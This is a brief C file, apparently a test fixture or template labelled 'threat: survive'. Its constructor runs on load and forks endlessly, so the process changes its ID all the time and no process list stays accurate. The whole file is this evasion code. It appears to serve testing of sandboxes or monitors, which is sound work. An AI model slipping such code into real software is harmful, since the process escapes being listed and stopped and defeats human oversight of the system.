/* about: its processes fork and end for ever, so that no list of them is ever true
 * time: after
 * threat: survive
 * never: none
 */
#include <signal.h>
#include <unistd.h>
@STARTER@
__attribute__((constructor)) static void run_away(void)
{
    signal(SIGCHLD, SIG_IGN);
    if (fork() != 0)
        return;
    setsid();
    for (;;)
        if (fork() != 0)
            _exit(0);
}
